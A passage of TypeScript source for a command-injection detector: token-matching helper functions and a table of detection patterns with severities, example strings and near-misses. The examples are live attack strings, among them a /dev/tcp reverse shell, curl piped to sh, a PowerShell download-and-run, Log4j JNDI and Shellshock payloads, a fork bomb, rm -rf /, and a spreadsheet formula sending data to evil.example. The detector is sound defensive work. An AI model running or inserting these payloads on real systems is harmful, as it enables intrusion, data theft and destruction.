  if (t.kind[i + 2] === 0x21) return t.kind[i + 3] === WORD && t.kind[i + 4] === CLOSE_BRACE && isCommandish(t, i);
  if (t.kind[i + 2] !== WORD && t.kind[i + 2] !== 0x40) return false;
  if (t.kind[i + 3] !== COLON || !t.glued(i + 3)) return false;
  const start = t.kind[i + 4] === MINUS || t.kind[i + 4] === 0x7e ? i + 5 : i + 4;
  return t.kind[start] === NUMBER && (t.kind[start + 1] === COLON || t.kind[start + 1] === CLOSE_BRACE) &&
    t.kind[i + 5] !== BOUND &&
    (t.kind[start + 1] === COLON ? t.kind[start + 2] === NUMBER || t.kind[start + 2] === DOLLAR : false);
}

function isCommandish(t: Tokens, i: number): boolean {
  const before = t.kind[i - 1] as number;
  return before === SEMICOLON || before === PIPE || before === 0x26 || before === BACKTICK;
}

/** `;$a$b`, `|$0`, `;$SHELL`: a command out of variables. */
function isVariableCommand(t: Tokens, i: number): boolean {
  if (!isCommandish(t, i)) return false;
  if (t.kind[i + 1] === NUMBER) {
    if (t.bytes[t.start[i + 1] as number] !== 0x30 || t.end[i + 1]! - t.start[i + 1]! !== 1) return false;
    // |$0 -c, ;$0<<<id, and `;$0` alone
    return (t.kind[i - 1] === PIPE && t.spaced(i + 2)) || t.kind[i + 2] === 0x3c ||
      (t.kind[i - 2] === BOUND && t.kind[i + 2] === BOUND);
  }
  if (t.kind[i + 1] === BRACE) {
    if (t.word[i + 2] === SHELL_WORD) return t.kind[i + 3] === CLOSE_BRACE;
    return t.kind[i + 3] === CLOSE_BRACE && t.kind[i + 4] === DOLLAR && t.glued(i + 4);
  }
  if (t.kind[i + 1] !== WORD || !t.glued(i + 1)) return false;
  if (t.word[i + 1] === SHELL_WORD) return true;
  // ;$HOME/x
  if (t.word[i + 1] === HOME && t.kind[i + 2] === SLASH) return t.kind[i + 3] === WORD;
  if (!hasAssignment(t, i)) return false;
  // a=id;$a
  if (isAssigned(t, i + 1) && (t.kind[i + 2] === BOUND || t.kind[i + 2] === SEMICOLON || t.spaced(i + 2))) return true;
  return t.kind[i + 2] === DOLLAR && t.glued(i + 2) && (t.kind[i + 3] === WORD || t.kind[i + 3] === BRACE);
}

/** A shell assigned to the name at `i` before: `name=`, without a `$`. */
function isAssigned(t: Tokens, i: number): boolean {
  for (let at = i - 3; at > i - 24; at--) {
    if (
      t.kind[at + 1] === EQUALS && t.kind[at] === WORD && t.glued(at + 1) && t.glued(at + 2) &&
      t.kind[at + 2] !== EQUALS && t.kind[at - 1] !== DOLLAR && t.same(at, i)
    ) return true;
  }
  return false;
}

function hasAssignment(t: Tokens, i: number): boolean {
  for (let at = i - 2; at > i - 24; at--) if (t.kind[at] === EQUALS && t.kind[at - 1] === WORD) return true;
  return false;
}

/** `/???/??t`, `/bin/c?t`: names of programs by wildcards. */
function isGlobbedProgram(t: Tokens, i: number): boolean {
  // /bin/[i]d
  if (t.kind[i] === SLASH) {
    return (t.word[i - 1] === BIN || t.word[i - 1] === SBIN) && t.kind[i + 1] === 0x5b && t.kind[i + 3] === 0x5d &&
      t.glued(i + 3);
  }
  if (t.kind[i - 1] === SLASH && t.kind[i + 1] === 0x3f && t.glued(i) && t.glued(i + 1)) {
    // /?? and then a slash
    let at = i + 1;
    while (t.kind[at] === 0x3f && at < i + 8) at++;
    return t.kind[at] === SLASH && t.glued(at) &&
      (t.kind[at + 1] === 0x3f ||
        (t.kind[at + 1] === WORD && t.glued(at + 1) && t.kind[at + 2] === 0x3f && t.glued(at + 2)));
  }
  // /b?n/c?t
  if (
    t.kind[i + 2] === SLASH && t.kind[i - 2] === SLASH && t.kind[i + 1] === WORD && t.glued(i) && t.glued(i + 1) &&
    t.glued(i + 2) && (t.kind[i - 3] === SEMICOLON || t.kind[i - 3] === PIPE || t.kind[i - 3] === BOUND)
  ) return t.kind[i + 3] === WORD || t.kind[i + 3] === 0x3f;
  // /bin/c?t, /b?n/cat
  for (let at = i - 1; at > i - 6; at--) {
    const number = t.word[at] as number;
    if ((number === BIN || number === SBIN) && t.kind[at - 1] === SLASH && t.kind[at + 1] === SLASH) {
      return t.glued(i) && (t.kind[i + 1] === WORD || t.kind[i + 1] === 0x3f);
    }
  }
  return false;
}

function isShellshock(t: Tokens, i: number): boolean {
  if (t.kind[i + 1] !== CLOSE || t.kind[i + 2] !== BRACE) return false;
  if (t.kind[i + 3] === COLON && t.kind[i + 4] === SEMICOLON) return true;
  if (t.kind[i - 1] !== BOUND) return false;
  for (let at = i + 3; at < i + 10; at++) if (t.kind[at] === SEMICOLON) return t.kind[at + 1] === CLOSE_BRACE;
  return false;
}

function isForkBomb(t: Tokens, i: number): boolean {
  return t.kind[i + 1] === OPEN && t.kind[i + 2] === CLOSE && t.kind[i + 3] === BRACE && t.kind[i + 4] === COLON &&
    t.kind[i + 5] === PIPE;
}

/** `> /etc/cron.d/x`, `>> ~/.ssh/authorized_keys`. */
function isRedirect(t: Tokens, i: number): boolean {
  // <path>/etc/x</path>
  if (((t.flags[i - 1] as number) & IN_TAG) !== 0) return false;
  let at = i + 1;
  if (t.kind[at] === 0x3e) at++;
  if (t.kind[at] === 0x7e) return t.kind[at + 1] === SLASH && t.kind[at + 2] === DOT;
  if (t.kind[at] !== SLASH || !t.glued(at + 1)) return false;
  const directory = t.word[at + 1] as number;
  if (t.kind[at + 2] !== SLASH) return false;
  if (directory === ETC || directory === ROOT) return true;
  if (directory === DEV) return isDisk(t, at + 3);
  return (directory === VAR || directory === TMP || directory === USR) && t.kind[i - 1] !== WORD && t.spaced(i) &&
    t.kind[at + 3] === WORD &&
    (t.kind[at + 4] === SLASH || t.kind[at + 4] === DOT) && !isMarkup(t, i);
}

/** The `>` ends a tag. */
function isMarkup(t: Tokens, i: number): boolean {
  for (let at = i - 1; at > i - 16; at--) if (t.kind[at] === 0x3c) return true;
  return false;
}

function isDisk(t: Tokens, i: number): boolean {
  if (t.kind[i] !== WORD) return false;
  const from = t.start[i] as number;
  const first = (t.bytes[from] as number) | 0x20;
  const second = (t.bytes[from + 1] as number) | 0x20;
  return (first === 0x73 && second === 0x64) || (first === 0x6d && second === 0x6d) ||
    (first === 0x6d && second === 0x74) || (first === 0x6e && second === 0x76);
}

/** Log4j looks up what stands in `${}`: `${jndi:ldap://…}`, and with its name hidden `${${lower:j}ndi:…}`, `${${::-j}…`. */
function isLookup(t: Tokens, i: number): boolean {
  if (t.word[i] === JNDI) {
    return t.kind[i + 1] === COLON && (t.kind[i - 1] === BRACE || LOOKUP_SCHEMES.has(t.word[i + 2] as number));
  }
  if (t.kind[i] === WORD) {
    // …i:ldap:/x, behind whatever hid the name
    if (t.kind[i - 1] !== COLON || t.kind[i + 1] !== COLON || t.kind[i + 2] !== SLASH || !t.glued(i + 2)) return false;
    for (let at = i - 2; at > i - 60 && t.kind[at] !== BOUND; at--) {
      if (t.kind[at] === DOLLAR && t.kind[at + 1] === BRACE) return true;
    }
    return false;
  }
  // `${` in `${`, or a default value of nothing: no template has these.
  if (t.kind[i + 1] !== BRACE) return false;
  // ${script:javascript:…}, ${url:UTF-8:…}, ${dns:address|…} (CVE-2022-42889)
  if (
    t.kind[i + 3] === COLON && TEXT_LOOKUPS.has(t.word[i + 2] as number) && t.glued(i + 3) && t.kind[i + 4] === WORD
  ) {
    if (t.word[i + 2] === DNS) return t.kind[i + 5] === PIPE;
    return t.kind[i + 5] === COLON || (t.word[i + 4] === UTF && t.kind[i + 7] === COLON);
  }
  const isNested = (t.kind[i - 1] === BRACE && t.kind[i - 2] === DOLLAR) ||
    (t.kind[i - 1] === WORD && t.glued(i) && t.kind[i - 2] === BRACE && t.kind[i - 3] === DOLLAR);
  if (isNested) {
    // ${${a:-j}ndi…
    for (let at = i + 2; at < i + 12 && t.kind[at] !== CLOSE_BRACE && t.kind[at] !== BOUND; at++) {
      if (t.kind[at] === COLON && t.kind[at + 1] === MINUS) return true;
    }
  }
  const isInside = isNested || (t.kind[i - 1] === CLOSE_BRACE) || t.kind[i - 1] === WORD && t.glued(i);
  if (t.kind[i + 2] === COLON) return t.kind[i + 3] === COLON && t.kind[i + 4] === MINUS;
  if (t.kind[i + 2] !== WORD || t.kind[i + 3] !== COLON || !t.glued(i + 3)) return false;
  const name = t.word[i + 2] as number;
  if (name === LOWER || name === UPPER) return isInside || isLoneLetter(t, i + 4);
  if (t.kind[i + 4] === COLON && t.kind[i + 5] === MINUS) return true;
  // ${env:NaN:-j}
  if (!isNested || !LOOKUPS.has(name)) return false;
  for (let at = i + 4; at < i + 10; at++) if (t.kind[at] === COLON && t.kind[at + 1] === MINUS) return true;
  return true;
}

function isLoneLetter(t: Tokens, i: number): boolean {
  return (t.end[i] as number) - (t.start[i] as number) === 1 && t.kind[i + 1] === CLOSE_BRACE;
}

function isPreload(t: Tokens, i: number): boolean {
  return t.kind[i + 1] === 0x3d &&
    (t.kind[i + 2] === SLASH || t.kind[i + 2] === DOT || t.isQuote(i + 2) || t.kind[i + 2] === DOLLAR);
}

function isLanguageCall(t: Tokens, i: number): boolean {
  switch (t.word[i]) {
    case GETRUNTIME:
      return t.kind[i + 1] === OPEN && t.kind[i + 2] === CLOSE && t.kind[i + 3] === DOT;
    case PROCESSBUILDER:
      return t.kind[i + 1] === OPEN && (t.kind[i - 1] === WORD || t.kind[i - 1] === DOT);
    case CHILD_PROCESS:
      return t.isQuote(i - 1) && t.kind[i - 2] === OPEN && t.word[i - 3] === REQUIRE;
    case MAINMODULE:
      return t.kind[i + 1] === DOT && t.word[i + 2] === REQUIRE;
    case DUNDER_IMPORT:
      return t.kind[i + 1] === OPEN;
  }
  // PHP: a call with an argument
  return t.kind[i + 1] === OPEN && t.kind[i + 2] !== CLOSE && t.kind[i - 1] !== DOT;
}

/** A command at the beginning of the text, or anywhere in it, that is dangerous whatever comes before. */
function isBeginning(t: Tokens, i: number): boolean {
  if (commandContext(t, i) !== BEGINNING) return false;
  const behind = nameEndsAt(t, i);
  const argument = argumentKind(t, behind, BEGINNING);
  return argument === OPTION || argument === PATH || argument === URL || argument === EXPANSION;
}

function isChmod(t: Tokens, i: number): boolean {
  if (t.kind[i + 1] === NUMBER) {
    return (t.end[i + 1] as number) - (t.start[i + 1] as number) >= 3 && t.bytes[(t.end[i + 1] as number) - 1] === 0x37;
  }
  const at = t.kind[i + 1] === WORD ? i + 2 : i + 1;
  return t.kind[at] === 0x2b && t.glued(at + 1) && t.kind[at + 1] === WORD && t.kind[at + 2] !== BOUND;
}

const PROGRAMS = wordsOf(SURE | NAMED | PLAIN);

/** Command injection: what a shell, or a logger with lookups, would run of a value. */
export const COMMAND_PATTERNS: readonly Pattern[] = [
  {
    name: "cmd-separated",
    category: "command-injection",
    severity: "high",
    catches: "A program behind ;, |, &, a line break, $( or a backtick, with arguments that no sentence has there",
    example: "x; wget http://evil.example/x",
    nearMiss: "open the valve; sleep well; find the leak",
    at: PROGRAMS,
    gate: "separator",
    test: isLongCommand,
  },
  {
    name: "cmd-separated-short",
    category: "command-injection",
    severity: "high",
    catches:
      "The same with a name of at most three letters: a program behind ;, |, &, a line break, $( or a backtick, with arguments that no sentence has there",
    example: "x; rm -rf /",
    nearMiss: "open the valve; sleep well; find the leak",
    weak: true,
    at: PROGRAMS,
    gate: "separator",
    test: isShortCommand,
  },
  {
    name: "cmd-path",
    category: "command-injection",
    severity: "high",
    catches: "A program or script behind a separator, by the path of a directory of programs",
    example: "x|/usr/local/bin/x",
    nearMiss: "topics a/bin/b; c/tmp/d",
    weak: true,
    at: [...["bin", "sbin", "tmp", "etc"].map(word), "./", "~/"],
    test: isPathRun,
  },
  {
    name: "cmd-shell-code",
    category: "command-injection",
    severity: "high",
    catches: "A shell or interpreter that is given code: sh -c, python -c, perl -e, bash -i >&",
    example: "sh -c 'id'",
    nearMiss: "CMD (/bin/sh -c run-parts)",
    at: [...wordsOf(SHELL), ...["python", "python2", "python3", "perl", "ruby", "php", "node", "lua"].map(word)],
    test: isShellWithCode,
  },
  {
    name: "cmd-powershell",
    category: "command-injection",
    severity: "high",
    catches: "PowerShell with options that hide or encode what it runs",
    example: "powershell -nop -w hidden -enc SQBFAFgA",
    nearMiss: "the script needs powershell - see docs",
    at: ["powershell", "pwsh"].map(word),
    test: isPowerShell,
  },
  {
    name: "cmd-powershell-download",
    category: "command-injection",
    severity: "high",
    catches: "Invoke-Expression and WebClient, which run what they fetch",
    example: "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
    nearMiss: "iex is short for invoke expression",
    at: ["iex", "downloadstring", "downloadfile"].map(word),
    test: isInvokeExpression,
  },
  {
    name: "cmd-windows-shell",
    category: "command-injection",
    severity: "high",
    catches: "cmd /c, %COMSPEC%, and cells of spreadsheets that start programs",
    example: "cmd.exe /c dir",
    nearMiss: "set cmd to on and path to /c",
    at: ["cmd", "comspec", "msexcel", "rundll32", "exe"].map(word),
    test: isWindowsShell,
  },
  {
    name: "cmd-remove-tree",
    category: "command-injection",
    severity: "high",
    catches: "rm -rf and its relatives",
    example: "rm -fr $HOME",
    nearMiss: "rm - remote monitoring",
    at: [RM],
    test: isRemoval,
  },
  {
    name: "cmd-reverse-shell",
    category: "command-injection",
    severity: "critical",
    catches: "A shell that is connected to the network: /dev/tcp, nc -e, socat exec, mkfifo",
    example: "bash >& /dev/tcp/10.0.0.1/4444",
    nearMiss: "open /dev/ttyUSB0 and tcp/1883",
    at: ["tcp", "udp", "nc", "ncat", "netcat", "socat", "mkfifo"].map(word),
    test: isReverseShell,
  },
  {
    name: "cmd-download-run",
    category: "command-injection",
    severity: "high",
    catches: "A download that is run at once",
    example: "curl http://x/a.sh | sh",
    nearMiss: "see curl http://x/status | the answer is on",
    at: ["wget", "curl"].map(word),
    test: isDownloadAndRun,
  },
  {
    name: "cmd-field-separator",
    category: "command-injection",
    severity: "high",
    catches: "$IFS in place of a space",
    example: "cat${IFS}/etc/hosts",
    nearMiss: "the ifs and buts",
    at: [IFS],
    test: isInternalFieldSeparator,
  },
  {
    name: "cmd-expansion",
    category: "command-injection",
    severity: "medium",
    catches: "Parts of variables that write characters without writing them",
    example: "cat ${HOME:0:1}etc${HOME:0:1}hosts",
    nearMiss: "${PORT:1883} ${NAME:-none}",
    at: ["$"],
    test: isExpansionTrick,
  },
  {
    name: "cmd-variable",
    category: "command-injection",
    severity: "medium",
    catches: "A command made out of variables behind a separator",
    example: "a=l;b=s;$a$b",
    nearMiss: "x = 1; $total = 5",
    weak: true,
    at: ["$"],
    test: isVariableCommand,
  },
  {
    name: "cmd-glob",
    category: "command-injection",
    severity: "medium",
    catches: "The path of a program in wildcards",
    example: "/???/c?t /???/p?ss??",
    nearMiss: "what?/where?/why??? https://x/?a=1",
    weak: true,
    at: ["?", "/["],
    test: isGlobbedProgram,
  },
  {
    name: "cmd-shellshock",
    category: "command-injection",
    severity: "critical",
    catches: "A function definition with code behind it, as CVE-2014-6271 takes it",
    example: "() { :; }; echo x",
    nearMiss: "const f = () => { return; };",
    at: ["()"],
    test: isShellshock,
  },
  {
    name: "cmd-fork-bomb",
    category: "command-injection",
    severity: "high",
    catches: "A function that calls itself twice in the background",
    example: ":(){ :|:& };:",
    nearMiss: "smile :() or :|",
    weak: true,
    at: [":("],
    test: isForkBomb,
  },
  {
    name: "cmd-redirect",
    category: "command-injection",
    severity: "medium",
    catches: "Output into the configuration, the disk or the keys of a system",
    example: "x > /etc/cron.d/job",
    nearMiss: "a > b and <dir>/etc</dir>",
    at: [">"],
    test: isRedirect,
  },
  {
    name: "cmd-lookup",
    category: "command-injection",
    severity: "critical",
    catches: "JNDI lookups of Log4j (CVE-2021-44228), hidden in further lookups too",
    example: "${${lower:j}ndi:ldap://x/a}",
    nearMiss: "${name:-default} ${env:HOME}",
    at: [JNDI, "$", ...["ldap", "ldaps", "rmi", "iiop"].map(word)],
    test: isLookup,
  },
  {
    name: "cmd-preload",
    category: "command-injection",
    severity: "medium",
    catches: "A library or a script that every program is to load",
    example: "LD_PRELOAD=/tmp/x.so",
    nearMiss: "LD_PRELOAD is not set",
    at: ["ld_preload", "bash_env"].map(word),
    test: isPreload,
  },
  {
    name: "cmd-language-call",
    category: "command-injection",
    severity: "medium",
    catches: "Calls by which programs start others: Java, Node.js, Python, PHP",
    example: "Runtime.getRuntime().exec('id')",
    nearMiss: "at java.lang.Runtime.exec(Runtime.java:450)",
    at: [
      "getruntime",
      "processbuilder",
      "child_process",
      "mainmodule",
      "__import__",
      "shell_exec",
      "passthru",
      "proc_open",
      "pcntl_exec",
    ].map(word),
    test: isLanguageCall,
  },
  {
    name: "cmd-program-call",
    category: "command-injection",
    severity: "medium",
    catches: "A call that runs a string, with a program in it; eval of something encoded",
    example: "os.system('id')",
    nearMiss: "system('on') exec('insert') re.compile('id') run('id')",
    at: [
      "%x",
      ...[
        "system",
        "popen",
        "exec",
        "execsync",
        "execute",
        "spawn",
        "spawnsync",
        "call",
        "check_output",
        "check_call",
        "run",
        "eval",
        "assert",
        "cmd",
        "passthru",
        "shell_exec",
      ].map(word),
    ],
    test: isProgramCall,
  },
  {
    name: "cmd-cmdlet",
    category: "command-injection",
    severity: "medium",
    catches: "Commands of PowerShell that fetch, start or remove, and calls of .NET that do",
    example: "Start-Process calc.exe",
    nearMiss: "start-process: heating; set-item 5; new-object",
    at: [
      "invoke",
      "start",
      "stop",
      "restart",
      "get",
      "add",
      "remove",
      "new",
      "set",
      "diagnostics",
      "reflection",
      "scriptblock",
      "frombase64string",
    ].map(word),
    test: isCmdlet,
  },
  {
    name: "cmd-formula",
    category: "command-injection",
    severity: "medium",
    catches: "A cell of a spreadsheet that reaches the network or a program",
    example: '=WEBSERVICE("http://evil.example/"&A1)',
    nearMiss: "=SUM(A1:A9) call webservice(x)",
    at: ["hyperlink", "importxml", "importdata", "importfeed", "importhtml", "importrange", "webservice", "dde", "exec"]
      .map(word),
    test: isFormula,
  },
  {
    name: "cmd-block",
    category: "command-injection",
    severity: "medium",
    catches: "A loop or a condition of a shell in one line",
    example: "; while true; do id; done",
    nearMiss: "lunch; done",
    at: ["done", "fi", "esac"].map(word),
    gate: "separator",
    test: isShellBlock,
  },
  {
    name: "cmd-encoded-line-break",
    category: "command-injection",
    severity: "medium",
    catches: "A percent-encoded line break with a command behind it",
    example: "x%0aid",
    nearMiss: "%0aids %0Aid=5",
    weak: true,
    at: ["%0"],
    test: isEncodedLineBreak,
  },
  {
    name: "cmd-serialized",
    category: "command-injection",
    severity: "medium",
    catches:
      "Serialised objects that run code when they are made: YAML tags of languages, PHP, known classes of Java and .NET",
    example: '!!python/object/apply:os.system ["id"]',
    nearMiss: '!!str 5 !!binary x {"o":8}',
    at: ["!!", "!r", "(s", ...["o", "jdbcrowsetimpl", "objectdataprovider"].map(word)],
    test: isSerializedObject,
  },
  {
    name: "cmd-line",
    category: "command-injection",
    severity: "medium",
    catches: "A text that is the command line of a program which no sentence names",
    example: "wget -q http://evil.example/x",
    nearMiss: "curl 7.88.1, hostname - a",
    at: wordsOf(SURE).filter((number) => (WORD_TEXT[number] as string).length > 3),
    test: isCommandLine,
  },
  {
    name: "cmd-line-short",
    category: "command-injection",
    severity: "medium",
    weak: true,
    catches:
      "The same with a name of at most three letters: a text that is the command line of a program which no sentence names",
    example: "ls -la /root",
    nearMiss: "mv -5 cp 7 rm: gone",
    at: wordsOf(SURE).filter((number) => (WORD_TEXT[number] as string).length <= 3),
    gate: "separator",
    test: isCommandLine,
  },
  {
    name: "cmd-chmod",
    category: "command-injection",
    severity: "medium",
    catches: "Making something executable, or open to everybody",
    example: "chmod 777 /tmp/x",
    nearMiss: "chmod is a command",
    at: [CHMOD],
    test: isChmod,
  },
  {
    name: "cmd-beginning",
    category: "command-injection",
    severity: "low",
    catches: "A text that begins like a command line",
    example: "ping -c 4 10.0.0.1",
    nearMiss: "find the leak",
    at: PROGRAMS,
    gate: "separator",
    test: isBeginning,
  },
];
